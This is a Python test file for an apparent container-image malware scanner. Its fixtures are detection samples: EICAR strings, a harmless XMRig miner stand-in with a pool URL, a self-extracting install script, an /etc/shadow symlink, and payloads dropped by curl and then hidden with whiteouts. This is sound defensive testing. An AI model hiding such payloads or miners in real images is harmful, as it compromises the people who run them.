#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""End-to-end tests: build images (tests/fixtures/imagelib.py), run the
stowaway binary on them, assert the exact findings, errors and exit codes.

usage: test_e2e.py STOWAWAY_BINARY [CASE...]
Prints one line per case and ends with "N passed, N failed".
"""
import gzip
import hashlib
import json
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "fixtures"))
from caserun import drive_module, eq, ok  # noqa: E402
from imagelib import (E, EICAR, Layer, Blobs, config_for, docker_archive, jdump,  # noqa: E402
                      manifest_for, oci_image, sha, tar_dir, write_oci, zeros_layer, MT_MANIFEST)

BIN = None
WORK = None
CASES = []
EICAR_SHA = sha(EICAR)[7:]


def case(fn):
    CASES.append(fn)
    return fn


class Run:
    def __init__(self, args, rc, out, err, maxrss_kb):
        self.args, self.rc, self.out, self.err, self.maxrss_kb = args, rc, out, err, maxrss_kb

    @property
    def json(self):
        try:
            return json.loads(self.out)
        except ValueError as e:
            raise AssertionError("stdout is not JSON: %s\n%s" % (e, self.out[:500]))

    def findings(self, fid=None):
        return [f for f in self.json["findings"] if fid is None or f["id"] == fid]


def scan(*args, fmt="json", timeout=300):
    cmd = [BIN, "scan", "--quiet"] + (["--format", fmt] if fmt else []) + list(args)
    # GNU time reports the peak RSS of the scanner alone (rusage of a child
    # forked from this big Python process would count the parent's pages).
    rss = os.path.join(WORK, "rss.txt")
    env = dict(os.environ, XDG_CACHE_HOME=os.path.join(WORK, "cache"))
    p = subprocess.run(["/usr/bin/time", "-q", "-f", "%M", "-o", rss] + cmd, env=env,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=timeout)
    with open(rss) as f:
        lines = [l for l in f.read().split() if l.isdigit()]
    return Run(cmd, p.returncode, p.stdout.decode("utf-8", "replace"),
               p.stderr.decode("utf-8", "replace"), int(lines[-1]) if lines else 0)


def d(name):
    p = os.path.join(WORK, name)
    shutil.rmtree(p, ignore_errors=True)
    os.makedirs(p)
    return p


SANITIZED = os.environ.get("STOWAWAY_SANITIZED") == "1"


def rss_ok(r, limit_mib=256):
    """Peak RSS bound (not meaningful under AddressSanitizer's shadow memory)."""
    if not SANITIZED:
        ok(r.maxrss_kb < limit_mib * 1024, "peak RSS %d KiB" % r.maxrss_kb)


def one_finding(r, fid, path, layer, final=True):
    fs = [f for f in r.findings(fid) if f["path"] == path]
    ok(len(fs) == 1, "want one %s at %s, have %s (stderr %s)" % (
        fid, path, [(f["id"], f["path"], f["layer"]) for f in r.json["findings"]], r.err))
    eq(fs[0]["layer"], layer, "layer of " + path)
    eq(fs[0]["in_final_fs"], final, "in_final_fs of " + path)
    return fs[0]


def error_run(r, needle):
    eq(r.rc, 2, "exit code (stderr: %s)" % r.err.strip())
    ok(r.err.startswith("stowaway: "), "error line format: %r" % r.err)
    ok(len(r.err.strip().splitlines()) == 1, "one-line error: %r" % r.err)
    ok(needle in r.err, "error %r should mention %r" % (r.err.strip(), needle))


def base_layer(extra=None, comp="gzip", created_by="ADD rootfs.tar /"):
    ents = [E("bin", kind="dir"), E("bin/sh", b"#!fake shell\n", mode=0o755),
            E("etc", kind="dir"), E("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n")]
    return Layer(ents + (extra or []), comp=comp, created_by=created_by)


# ---------------------------------------------------------------- sources

@case
def oci_layout_gzip_finds_eicar():
    root = d("oci1")
    oci_image(root, [base_layer(), Layer([E("opt", kind="dir"), E("opt/eicar.com", EICAR)],
                                         created_by="COPY eicar.com /opt/")],
              name="docker.io/someuser/openjdk:latest")
    r = scan("oci:" + root)
    eq(r.rc, 0, "exit code (medium < high)")
    f = one_finding(r, "SW-IOC-SHA256", "/opt/eicar.com", 1)
    eq(f["severity"], "medium", "severity")
    eq(f["category"], "test", "category")
    eq(f["created_by"], "COPY eicar.com /opt/", "created_by")
    eq(f["evidence"]["sha256"], EICAR_SHA, "evidence sha256")
    j = r.json
    eq(j["schema"], "stowaway.report/v1", "schema")
    eq(j["verdict"], "suspicious", "verdict")
    eq(j["image"]["reference"], "docker.io/someuser/openjdk:latest", "reference")
    eq(len(j["image"]["layers"]), 2, "layers")
    ok(j["tool"]["ruleset"].startswith("sha256:"), "ruleset digest")
    eq(j["stats"]["layers"], 2, "stats.layers")
    eq(scan("--fail-on", "medium", "oci:" + root).rc, 1, "exit with --fail-on medium")


@case
def bare_path_is_sniffed_and_table_output():
    root = d("oci2")
    oci_image(root, [base_layer([E("eicar.txt", EICAR)])])
    r = scan(root, fmt="table")
    eq(r.rc, 0, "rc")
    ok("SW-IOC-SHA256" in r.out and "/eicar.txt" in r.out, "table lists the finding:\n" + r.out)
    ok("verdict: suspicious" in r.out, "table verdict")
    ok("\033[" not in r.out, "no colour when not a terminal")


@case
def output_file_gets_json():
    root = d("oci3")
    oci_image(root, [base_layer([E("eicar.txt", EICAR)])])
    out = os.path.join(WORK, "report.json")
    r = scan("--output", out, root, fmt=None)
    eq(r.rc, 0, "rc")
    eq(r.out, "", "stdout empty")
    with open(out) as f:
        ok(json.load(f)["findings"][0]["path"] == "/eicar.txt", "report file content")


@case
def zstd_plain_and_multimember_gzip_layers():
    root = d("comp")
    oci_image(root, [base_layer(comp="zstd"),
                     Layer([E("a", kind="dir"), E("a/eicar", EICAR)], comp="none"),
                     Layer([E("b", kind="dir"), E("b/pad", os.urandom(200000)), E("b/eicar", EICAR)],
                           comp="gzip-multi"),
                     Layer([E("c", kind="dir"), E("c/eicar", EICAR)], comp="zstd")])
    r = scan(root)
    eq(r.rc, 0, "rc " + r.err)
    one_finding(r, "SW-IOC-SHA256", "/a/eicar", 1)
    one_finding(r, "SW-IOC-SHA256", "/b/eicar", 2)
    one_finding(r, "SW-IOC-SHA256", "/c/eicar", 3)


@case
def media_type_is_not_trusted():
    # a zstd blob declared as gzip, a gzip blob declared as plain tar
    root = d("mt")
    l1 = Layer([E("x", EICAR)], comp="zstd")
    l2 = Layer([E("y", EICAR)], comp="gzip")
    l1.comp, l2.comp = "gzip", "none"  # lie in the manifest's mediaType
    oci_image(root, [l1, l2])
    r = scan(root)
    eq(r.rc, 0, "rc " + r.err)
    one_finding(r, "SW-IOC-SHA256", "/x", 0)
    one_finding(r, "SW-IOC-SHA256", "/y", 1)


@case
def oci_archive_source():
    root = d("ociarch")
    oci_image(root, [base_layer([E("opt", kind="dir"), E("opt/e", EICAR)])], tag="v1")
    arch = os.path.join(WORK, "img.oci.tar")
    tar_dir(root, arch)
    for inp in ("oci-archive:" + arch, "oci-archive:%s:v1" % arch, arch):
        r = scan(inp)
        eq(r.rc, 0, inp + " " + r.err)
        one_finding(r, "SW-IOC-SHA256", "/opt/e", 0)


@case
def docker_archive_all_three_layouts():
    layers = [base_layer(), Layer([E("srv", kind="dir"), E("srv/eicar", EICAR)],
                                  created_by="COPY eicar /srv/")]
    for layout in ("v24", "v25", "containerd"):
        out = os.path.join(WORK, "docker-%s.tar" % layout)
        docker_archive(out, layers, layout=layout, repotag="thanhtudo/openjdk:latest")
        for inp in ("docker-archive:" + out, out):
            r = scan(inp)
            eq(r.rc, 0, "%s rc: %s" % (layout, r.err))
            f = one_finding(r, "SW-IOC-SHA256", "/srv/eicar", 1)
            eq(f["created_by"], "COPY eicar /srv/", layout + " created_by")
            eq(r.json["image"]["reference"], "docker.io/thanhtudo/openjdk:latest", layout + " ref")


@case
def docker_archive_with_several_images():
    out = os.path.join(WORK, "docker-two.tar")
    docker_archive(out, [base_layer([E("e", EICAR)])], layout="v24", repotag="example/app:1.0")
    # list the same image twice, under two tags
    with tarfile.open(out) as t:
        members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t.getmembers()]
    man = json.loads([d for m, d in members if m.name == "manifest.json"][0])
    second = dict(man[0], RepoTags=["example/other:2.0"])
    man = jdump(man + [second])
    out2 = os.path.join(WORK, "docker-two2.tar")
    with tarfile.open(out2, "w") as t:
        for m, data in members:
            if m.name == "manifest.json":
                data = man
                m.size = len(data)
            t.addfile(m, __import__("io").BytesIO(data) if data is not None else None)
    error_run(scan("docker-archive:" + out2), "holds 2 images")
    for sel in (":@1", ":example/other:2.0", ":docker.io/example/app:1.0"):
        r = scan("docker-archive:" + out2 + sel)
        eq(r.rc, 0, sel + " " + r.err)
        one_finding(r, "SW-IOC-SHA256", "/e", 0)
    eq(scan("docker-archive:%s:@1" % out2).json["image"]["reference"], "docker.io/example/other:2.0",
       "reference of the selected image")
    error_run(scan("docker-archive:" + out2 + ":@7"), "no image @7")


@case
def terminal_gets_progress_and_colour():
    if not shutil.which("script"):
        raise AssertionError("script(1) from util-linux is required")
    root = d("tty")
    oci_image(root, [base_layer([E("e", EICAR)])])
    p = subprocess.run(["script", "-qfec", "%s scan --no-cache oci:%s" % (BIN, root), "/dev/null"],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60)
    out = p.stdout.decode("utf-8", "replace")
    ok("layers 0/1" in out or "layers 1/1" in out, "progress on a terminal: %r" % out[:300])
    ok("\033[" in out and "SW-IOC-SHA256" in out, "coloured table on a terminal")
    r = scan(root, fmt=None)
    ok(r.err == "" and r.out.startswith("{"), "no progress and JSON in a pipe")


@case
def dir_rootfs_source():
    root = d("rootfs")
    os.makedirs(os.path.join(root, "usr/share/.cache"))
    with open(os.path.join(root, "usr/share/.cache/e"), "wb") as f:
        f.write(EICAR)
    os.symlink("/etc/shadow", os.path.join(root, "evil-link"))
    r = scan("dir:" + root)
    eq(r.rc, 0, "rc " + r.err)
    one_finding(r, "SW-IOC-SHA256", "/usr/share/.cache/e", 0)


@case
def multi_platform_index_and_tags():
    root = d("multi")
    amd = [Layer([E("amd64-eicar", EICAR)])]
    arm = [Layer([E("arm64-eicar", EICAR)])]
    write_oci(root, [
        (arm, config_for(arm, arch="arm64"), {"platform": {"os": "linux", "architecture": "arm64", "variant": "v8"},
                                             "annotations": {"org.opencontainers.image.ref.name": "multi"}}),
        (amd, config_for(amd), {"platform": {"os": "linux", "architecture": "amd64"},
                                "annotations": {"org.opencontainers.image.ref.name": "multi"}}),
        (arm, config_for(arm, arch="arm64"), {"annotations": {"org.opencontainers.image.ref.name": "armonly"}}),
    ])
    r = scan("oci:%s:multi" % root)
    eq(r.rc, 0, r.err)
    # every platform of the index, each finding saying its own
    eq(one_finding(r, "SW-IOC-SHA256", "/amd64-eicar", 0)["platform"], "linux/amd64", "platform")
    eq(one_finding(r, "SW-IOC-SHA256", "/arm64-eicar", 0)["platform"], "linux/arm64/v8", "platform")
    r = scan("--platform", "linux/arm64", "oci:%s:multi" % root)
    one_finding(r, "SW-IOC-SHA256", "/arm64-eicar", 0)
    eq([f["path"] for f in r.findings("SW-IOC-SHA256")], ["/arm64-eicar"], "--platform: arm64 alone")
    r = scan("oci:%s:armonly" % root)
    one_finding(r, "SW-IOC-SHA256", "/arm64-eicar", 0)
    error_run(scan("oci:%s:nosuch" % root), "tag \"nosuch\" not in index.json")
    error_run(scan("--platform", "linux/s390x", "oci:%s:multi" % root), "no manifest for platform linux/s390x")
    # several images that are not platforms of one: the advice is a tag, not --platform
    two = d("twotags")
    one, other = [Layer([E("etc/a", b"a\n")])], [Layer([E("etc/b", b"b\n")])]
    write_oci(two, [(one, config_for(one), {"annotations": {"org.opencontainers.image.ref.name": "1.0"}}),
                    (other, config_for(other), {"annotations": {"org.opencontainers.image.ref.name": "2.0"}})])
    error_run(scan("oci:" + two), "index.json holds 2 images (tags: 1.0, 2.0): name one as DIR:TAG")


@case
def nested_index_is_followed():
    root = d("nested")
    b = Blobs(root)
    layers = [Layer([E("n-eicar", EICAR)])]
    man = jdump(manifest_for(b, layers, jdump(config_for(layers))))
    inner = jdump({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
                   "manifests": [{"mediaType": MT_MANIFEST, "digest": b.put(man), "size": len(man),
                                  "platform": {"os": "linux", "architecture": "amd64"}}]})
    with open(os.path.join(root, "oci-layout"), "w") as f:
        f.write('{"imageLayoutVersion":"1.0.0"}')
    with open(os.path.join(root, "index.json"), "wb") as f:
        f.write(jdump({"schemaVersion": 2, "manifests": [
            {"mediaType": "application/vnd.oci.image.index.v1+json", "digest": b.put(inner),
             "size": len(inner)}]}))
    r = scan(root)
    eq(r.rc, 0, r.err)
    one_finding(r, "SW-IOC-SHA256", "/n-eicar", 0)


# ---------------------------------------------------------------- merged view

@case
def whiteout_hides_but_finding_stays():
    root = d("wh")
    oci_image(root, [
        base_layer([E("usr", kind="dir"), E("usr/share", kind="dir"), E("usr/share/.x", kind="dir"),
                    E("usr/share/.x/payload", EICAR)], created_by="RUN curl ... > /usr/share/.x/payload"),
        Layer([E("usr/share/.x/.wh.payload")], created_by="RUN rm /usr/share/.x/payload")])
    r = scan(root)
    f = one_finding(r, "SW-IOC-SHA256", "/usr/share/.x/payload", 0, final=False)
    eq(f["created_by"], "RUN curl ... > /usr/share/.x/payload", "created_by")
    h = one_finding(r, "SW-HIDDEN-PAYLOAD", "/usr/share/.x/payload", 0, final=False)
    eq((h["category"], h["severity"]), ("hidden-payload", "medium"), "hidden payload takes the file's severity")
    eq(h["evidence"], {"added_in_layer": 0, "added_by": "RUN curl ... > /usr/share/.x/payload",
                       "removed_in_layer": 1, "removed_by": "RUN rm /usr/share/.x/payload",
                       "findings": ["SW-IOC-SHA256", "SW-TEST-EICAR"]}, "hidden payload evidence")
    table = scan(root, fmt="table").out
    ok("still shipped" in table, "table explains deleted payloads")
    ok("removed by: RUN rm /usr/share/.x/payload (layer 1)" in table, "and names the step that deleted it: " + table)


@case
def opaque_directory_hides_lower_children_only():
    root = d("opq")
    oci_image(root, [
        Layer([E("opt", kind="dir"), E("opt/d", kind="dir"), E("opt/d/old", EICAR)]),
        Layer([E("opt/d/new", EICAR), E("opt/d/.wh..wh..opq")])])  # marker after a sibling
    r = scan(root)
    one_finding(r, "SW-IOC-SHA256", "/opt/d/old", 0, final=False)
    one_finding(r, "SW-IOC-SHA256", "/opt/d/new", 1, final=True)


@case
def replaced_file_and_dir_replaced_by_file():
    root = d("repl")
    oci_image(root, [
        Layer([E("f", EICAR), E("dir", kind="dir"), E("dir/inner", EICAR)]),
        Layer([E("f", b"clean now"), E("dir", b"now a file")])])
    r = scan(root)
    one_finding(r, "SW-IOC-SHA256", "/f", 0, final=False)
    one_finding(r, "SW-IOC-SHA256", "/dir/inner", 0, final=False)
    eq(one_finding(r, "SW-HIDDEN-PAYLOAD", "/dir/inner", 0, final=False)["evidence"]["removed_in_layer"], 1,
       "replacing the directory removed it")
    one_finding(r, "SW-HIDDEN-PAYLOAD", "/f", 0, final=False)


@case
def hardlink_keeps_deleted_target_alive():
    root = d("hl")
    oci_image(root, [
        Layer([E("a", kind="dir"), E("a/payload", EICAR)]),
        Layer([E("b", kind="dir"), E("b/alias", kind="hardlink", link="a/payload"), E("a/.wh.payload")])])
    r = scan(root)
    one_finding(r, "SW-IOC-SHA256", "/a/payload", 0, final=True)
    eq(r.findings("SW-HIDDEN-PAYLOAD"), [], "a hardlink keeps it visible: not hidden")


@case
def pax_and_gnu_long_names_and_xattrs():
    longdir = "/".join(["d%03d" % i for i in range(40)])  # ~200 bytes
    root = d("long")
    oci_image(root, [
        Layer([E(longdir + "/pax-eicar", EICAR,
                 pax={"SCHILY.xattr.security.capability": "\x01\x00\x00\x02"})]),
        Layer([E(longdir + "/gnu-eicar", EICAR)], fmt=tarfile.GNU_FORMAT),
        Layer([E("short/ustar-eicar", EICAR)], fmt=tarfile.USTAR_FORMAT)])
    r = scan(root)
    eq(r.rc, 0, r.err)
    one_finding(r, "SW-IOC-SHA256", "/" + longdir + "/pax-eicar", 0)
    one_finding(r, "SW-IOC-SHA256", "/" + longdir + "/gnu-eicar", 1)
    one_finding(r, "SW-IOC-SHA256", "/short/ustar-eicar", 2)


@case
def custom_ioc_list_malicious_verdict():
    root = d("iocx")
    miner = b"\x7fELF fake miner stand-in: stratum+tcp://pool.example.invalid:3333 --donate-level 1\n"
    oci_image(root, [base_layer([E("usr/bin/.kworker", miner, mode=0o755)])])
    lst = os.path.join(WORK, "iocs.txt")
    with open(lst, "w") as f:
        f.write("# test list\n\n%s critical miner XMRig stand-in (test)\n" % sha(miner)[7:])
    r = scan("--ioc", lst, root)
    eq(r.rc, 1, "rc " + r.err)
    f = one_finding(r, "SW-IOC-SHA256", "/usr/bin/.kworker", 0)
    eq((f["severity"], f["category"]), ("critical", "miner"), "severity/category")
    eq(r.json["verdict"], "malicious", "verdict")
    with open(lst, "w") as f:
        f.write("%s critical minr typo\n" % sha(miner)[7:])
    error_run(scan("--ioc", lst, root), "iocs.txt:1: unknown category")
    error_run(scan("--ioc", os.path.join(WORK, "nope.txt"), root), "cannot open")


@case
def sized_ioc_entries_hash_only_their_sizes():
    """An IOC entry may carry the file's size ("sha256:size", as ClamAV's
    .hdb does): files of that size are hashed and found; a wrong size in
    the list means the entry cannot match (the list, not the scan, is
    wrong); a malformed size is an error naming the line. YARA evidence
    still carries the hash of what matched, computed when it matched."""
    root = d("iocsz")
    miner = b"\x7fELF fake miner stand-in: stratum+tcp://pool.example.invalid:3333 --donate-level 1\n"
    other = b"same length? no: a different file entirely, with its own bytes....\n"
    oci_image(root, [base_layer([E("usr/bin/.kworker", miner, mode=0o755), E("usr/bin/other", other)])])
    lst = os.path.join(WORK, "iocs-sized.txt")
    with open(lst, "w") as f:
        f.write("%s:%d critical miner XMRig stand-in (test)\n" % (sha(miner)[7:], len(miner)))
        f.write("%s:%d high miner another (test)\n" % (sha(other)[7:], len(other)))
    r = scan("--ioc", lst, "--no-bundled-rules", root)
    eq(r.rc, 1, "rc " + r.err)
    f = one_finding(r, "SW-IOC-SHA256", "/usr/bin/.kworker", 0)
    eq((f["severity"], f["evidence"]["sha256"]), ("critical", sha(miner)[7:]), "severity, sha256")
    one_finding(r, "SW-IOC-SHA256", "/usr/bin/other", 0)
    with open(lst, "w") as f:
        f.write("%s:%d critical miner wrong size (test)\n" % (sha(miner)[7:], len(miner) + 1))
    r = scan("--ioc", lst, "--no-bundled-rules", root)
    eq([x for x in r.json["findings"] if x["id"] == "SW-IOC-SHA256"], [], "an entry of another size")
    for bad in ("%s: critical miner x\n", "%s:12k critical miner x\n", "%s:99999999999999999999999 critical miner x\n"):
        with open(lst, "w") as f:
            f.write(bad % sha(miner)[7:])
        error_run(scan("--ioc", lst, root), "iocs-sized.txt:1: the size after")
    # the bundled list's EICAR entry is sized: EICAR is still found, and a
    # YARA finding's evidence still names the hash of the file it matched
    oci_image(root, [base_layer([E("opt/eicar.com", EICAR), E("usr/share/.java/jupdate", MINER_STANDIN, mode=0o755)])])
    r = scan(root)
    one_finding(r, "SW-IOC-SHA256", "/opt/eicar.com", 0)
    y = [x for x in r.json["findings"] if x["path"] == "/usr/share/.java/jupdate" and x["detector"] == "yara"]
    ok(y, "a YARA finding on the miner stand-in: %r" % [x["id"] for x in r.json["findings"]])
    eq({x["evidence"]["sha256"] for x in y}, {sha(MINER_STANDIN)[7:]}, "YARA evidence sha256")


# ---------------------------------------------------------------- YARA

# Harmless stand-ins in the shape of the real thing: option and protocol
# strings as a miner binary carries them, with no code that mines.
MINER_STANDIN = (b"\x7fELF\x02\x01\x01" + bytes(64) + b"XMRig 6.21.0 built for linux\0"
                 b"--donate-level=N\0--cpu-max-threads-hint=N\0--randomx-1gb-pages\0"
                 b"rx/0\0cn/r\0stratum+tcp://\0{\"id\":1,\"method\":\"login\"}\0" + bytes(256))
MINER_CONFIG = (b'{"autosave": true, "pools": [{"url": "stratum+tcp://pool.example.invalid:3333",'
                b' "user": "WALLET-PLACEHOLDER", "pass": "x", "algo": "rx/0"}]}\n')


@case
def yara_finds_miner_and_config_in_their_layers():
    root = d("yara1")
    oci_image(root, [base_layer(),
                     Layer([E("usr", kind="dir"), E("usr/share", kind="dir"),
                            E("usr/share/.java", kind="dir"),
                            E("usr/share/.java/jupdate", MINER_STANDIN, mode=0o755)],
                           created_by="COPY jupdate /usr/share/.java/"),
                     Layer([E("etc/xmr.json", MINER_CONFIG)], created_by="COPY config.json /etc/xmr.json")])
    r = scan(root)
    eq(r.rc, 1, "critical finding fails the scan: " + r.err)
    f = one_finding(r, "SW-MINER-XMRIG", "/usr/share/.java/jupdate", 1)
    eq((f["severity"], f["category"], f["detector"]), ("critical", "miner", "yara"), "meta")
    eq(f["evidence"]["rule"], "SW_MINER_XMRIG", "evidence rule")
    ok(any(x["data"].startswith("--donate-level") for x in f["evidence"]["strings"]), "evidence strings")
    one_finding(r, "SW-MINER-CONFIG", "/etc/xmr.json", 2)
    eq(r.json["verdict"], "malicious", "verdict")


@case
def user_rules_and_rule_errors():
    root = d("yara2")
    oci_image(root, [base_layer([E("opt/tool", b"hello CUSTOM-MARKER-42 world")])])
    rules = d("myrules")
    open(os.path.join(rules, "custom.yar"), "w").write(
        'rule custom { meta: id = "ACME-1" severity = "high" category = "backdoor" '
        'title = "ACME marker" strings: $a = "CUSTOM-MARKER-42" condition: $a and filepath == "/opt/tool" }\n')
    r = scan("--rules", rules, root)
    eq(r.rc, 1, r.err)
    f = one_finding(r, "ACME-1", "/opt/tool", 0)
    eq(f["evidence"]["namespace"], "user:custom.yar", "a namespace per file")
    cache = os.path.join(WORK, "cache", "stowaway")
    ok(any(n.endswith(".yarc") for n in os.listdir(cache)), "compiled rules cached")
    again = scan("--rules", rules, root)
    eq(again.json["findings"], r.json["findings"], "same findings from the cached rules")
    eq(again.json["tool"]["ruleset"], r.json["tool"]["ruleset"], "same ruleset digest")
    eq(scan(root).json["findings"], [], "bundled rules alone: nothing")
    ok(scan(root).json["tool"]["ruleset"] != r.json["tool"]["ruleset"], "ruleset digest covers user rules")
    bad = d("badrules")
    open(os.path.join(bad, "nometa.yar"), "w").write('rule nometa { strings: $a = "CUSTOM-MARKER" condition: $a }\n')
    r = scan("--rules", bad, root)
    eq(r.rc, 0, "no meta: derived, medium by default: " + r.err)
    f = one_finding(r, "nometa.yar:nometa", "/opt/tool", 0)
    eq((f["severity"], f["category"], f["title"]), ("medium", "custom", "nometa"), "derived meta")
    open(os.path.join(bad, "nometa.yar"), "w").write('rule broken {\n condition: $undefined\n}\n')
    r = scan("--rules", bad, root)
    eq(r.rc, 2, "a broken rules file is an error")
    ok("nometa.yar:3: error: undefined string" in r.err, "the problem with its file and line: " + r.err)
    ok("--rules-skip-broken" in r.err.strip().splitlines()[-1], "the way out named: " + r.err)
    r = scan("--rules", bad, "--rules-skip-broken", root)
    eq((r.rc, r.json["findings"]), (0, []), "skipped: the others (bundled) still scan")
    ok("nometa.yar:3: error: undefined string" in r.err, "and the problem still said")
    error_run(scan("--rules", os.path.join(WORK, "nodir"), root), "nodir")


@case
def user_rule_size_promise():
    """meta max_size is a promise: for files of that size or more the rule
    is left out (its strings are never searched). A rule that keeps it
    (filesize < 1MB in its condition) gives the same result either way; the
    one that breaks it shows that the promise, not the condition, decides."""
    marker = b"SIZE-PROMISE-MARKER-7"
    pad = hashlib.shake_256(b"pad").digest(1 << 20)
    root = d("tier")
    oci_image(root, [base_layer([E("opt/small", marker), E("opt/big", marker + pad)])])
    rules = d("tierrules")
    open(os.path.join(rules, "t.yar"), "w").write(
        'rule kept { meta: id = "T-KEPT" severity = "high" category = "backdoor" title = "k" '
        'max_size = "1MB" strings: $a = "SIZE-PROMISE-MARKER-7" condition: filesize < 1MB and $a }\n'
        'rule broken { meta: id = "T-BROKEN" severity = "high" category = "backdoor" title = "b" '
        'max_size = "1MB" strings: $a = "SIZE-PROMISE-MARKER-7" condition: $a }\n'
        'rule plain { meta: id = "T-NONE" severity = "high" category = "backdoor" title = "n" '
        'strings: $a = "SIZE-PROMISE-MARKER-7" condition: $a and not broken }\n')
    r = scan("--rules", rules, "--no-bundled-rules", root)
    got = sorted((f["id"], f["path"]) for f in r.json["findings"])
    eq(got, [("T-BROKEN", "/opt/small"), ("T-KEPT", "/opt/small"), ("T-NONE", "/opt/big")],
       "small file: every rule; 1 MiB file: promised rules left out, references see false")
    open(os.path.join(rules, "t.yar"), "w").write(
        'rule bad { meta: id = "T-BAD" severity = "high" category = "backdoor" title = "b" '
        'max_size = "1GB" condition: true }\n')
    error_run(scan("--rules", rules, root), "rule")


@case
def rules_list_and_test_commands():
    env = dict(os.environ, XDG_CACHE_HOME=os.path.join(WORK, "cache"))
    p = subprocess.run([BIN, "rules", "list"], stdout=subprocess.PIPE, env=env)
    out = p.stdout.decode()
    eq(p.returncode, 0, "rules list")
    for rid in ("SW-TEST-EICAR", "SW-MINER-XMRIG", "SW-MINER-CONFIG"):
        ok(rid in out, rid + " listed")
    f = os.path.join(WORK, "standin.bin")
    open(f, "wb").write(MINER_STANDIN)
    clean = os.path.join(WORK, "clean.txt")
    open(clean, "w").write("nothing to see\n")
    p = subprocess.run([BIN, "rules", "test", f, clean], stdout=subprocess.PIPE, env=env)
    eq(p.returncode, 1, "rules test exits 1 on a match")
    eq(p.stdout.decode().strip(), "%s: SW-MINER-XMRIG critical miner (bundled:SW_MINER_XMRIG) "
       "XMRig cryptocurrency miner (or a fork)" % f, "match line")
    eq(subprocess.run([BIN, "rules", "test", clean], env=env).returncode, 0, "no match: 0")


@case
def big_file_skips_content_detectors_visibly():
    root = d("bigfile")
    oci_image(root, [Layer([E("big", bytes(3 << 20))])])
    r = scan("--max-file-size", "1M", root)
    eq(r.rc, 0, r.err)
    ok(any(i["path"] == "/big" and "max-file-size" in i["reason"] for i in r.json["incomplete"]),
       "incomplete: %s" % r.json["incomplete"])
    one_finding(r, "SW-INCOMPLETE", "/big", 0)


# ---------------------------------------------------------------- nested archives

def _zip(members):
    import io as _io
    import zipfile
    b = _io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return b.getvalue()


@case
def nested_archives_are_expanded():
    import io as _io
    import zipfile
    tgz = _io.BytesIO()
    with tarfile.open(fileobj=tgz, mode="w:gz") as t:
        data = MINER_STANDIN
        ti = tarfile.TarInfo("bin/helper")
        ti.size = len(data)
        t.addfile(ti, _io.BytesIO(data))
    jar = _io.BytesIO()
    with zipfile.ZipFile(jar, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
        z.writestr("config/pool.json", MINER_CONFIG)
        z.writestr("inner.zip", _zip({"deep/eicar.com": EICAR}))
    npm = _io.BytesIO()
    with tarfile.open(fileobj=npm, mode="w:gz") as t:
        ti = tarfile.TarInfo("package/test/eicar.com")
        ti.size = len(EICAR)
        t.addfile(ti, _io.BytesIO(EICAR))
    sfx = b"#!/bin/sh\ntail -n +4 \"$0\" | tar xz -C /tmp\nexit 0\n" + tgz.getvalue()
    root = d("nested")
    oci_image(root, [base_layer(), Layer([
        E("opt", kind="dir"), E("opt/vendor", kind="dir"), E("opt/vendor/tools.tar.gz", tgz.getvalue()),
        E("app", kind="dir"), E("app/lib", kind="dir"), E("app/lib/x.jar", jar.getvalue()),
        E("app/pkg.tgz", npm.getvalue()), E("app/install.sh", sfx, mode=0o755)])])
    r = scan(root)
    eq(r.rc, 1, r.err)
    one_finding(r, "SW-MINER-XMRIG", "/opt/vendor/tools.tar.gz!bin/helper", 1)
    one_finding(r, "SW-MINER-CONFIG", "/app/lib/x.jar!config/pool.json", 1)
    one_finding(r, "SW-TEST-EICAR", "/app/lib/x.jar!inner.zip!deep/eicar.com", 1)
    one_finding(r, "SW-TEST-EICAR", "/app/pkg.tgz!package/test/eicar.com", 1)
    one_finding(r, "SW-HEUR-SELF-EXTRACTING", "/app/install.sh", 1)
    one_finding(r, "SW-MINER-XMRIG", "/app/install.sh!payload!bin/helper", 1)
    shallow = scan("--max-depth", "1", root)
    one_finding(shallow, "SW-MINER-CONFIG", "/app/lib/x.jar!config/pool.json", 1)
    eq([f for f in shallow.findings("SW-TEST-EICAR") if "inner.zip" in f["path"]], [], "depth limit")


@case
def nested_bzip2_and_xz():
    import io as _io
    import lzma
    bufs = {}
    for mode in ("bz2", "xz"):
        b = _io.BytesIO()
        with tarfile.open(fileobj=b, mode="w:" + mode) as t:
            ti = tarfile.TarInfo("bin/helper")
            ti.size = len(MINER_STANDIN)
            t.addfile(ti, _io.BytesIO(MINER_STANDIN))
        bufs[mode] = b.getvalue()
    root = d("nested2")
    oci_image(root, [Layer([E("opt", kind="dir"), E("opt/t.tar.bz2", bufs["bz2"]),
                            E("opt/t.tar.xz", bufs["xz"]), E("opt/eicar.com.xz", lzma.compress(EICAR)),
                            E("opt/broken.xz", lzma.compress(EICAR * 100)[:40])])])
    r = scan(root)
    one_finding(r, "SW-MINER-XMRIG", "/opt/t.tar.bz2!bin/helper", 0)
    one_finding(r, "SW-MINER-XMRIG", "/opt/t.tar.xz!bin/helper", 0)
    one_finding(r, "SW-TEST-EICAR", "/opt/eicar.com.xz!eicar.com", 0)
    ok(any(i["path"] == "/opt/broken.xz" and "xz" in i["reason"] for i in r.json["incomplete"]),
       "truncated xz is incomplete: %s" % r.json["incomplete"])


@case
def nested_zip_with_hostile_offsets():
    z = bytearray(_zip({"a.txt": b"hello", "b.txt": EICAR}))
    cd = z.find(b"PK\x01\x02")
    z[cd + 42:cd + 46] = struct.pack("<I", 0xFFFFFFF0)  # local header offset near 4 GiB
    eocd = z.rfind(b"PK\x05\x06")
    z2 = bytearray(z)
    z2[eocd + 16:eocd + 20] = struct.pack("<I", 0xFFFFFF00)  # central directory offset past the end
    root = d("zipoff")
    oci_image(root, [Layer([E("a.zip", bytes(z)), E("b.zip", bytes(z2))])])
    r = scan(root)
    eq(r.rc, 0, r.err)
